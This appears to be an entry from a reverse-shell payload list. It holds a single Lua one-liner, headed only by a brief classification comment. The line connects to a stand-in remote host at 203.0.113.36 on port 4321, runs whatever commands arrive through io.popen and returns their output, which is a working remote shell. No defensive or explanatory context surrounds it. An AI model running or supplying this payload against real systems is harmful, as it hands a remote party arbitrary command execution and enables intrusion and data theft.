# class: embedded, lua -e; style: one-liner
lua -e 'local s=require("socket");local t=assert(s.tcp());t:connect("203.0.113.36",4321);while true do local r=t:receive();local f=io.popen(r,"r");t:send(f:read("*a")) end'
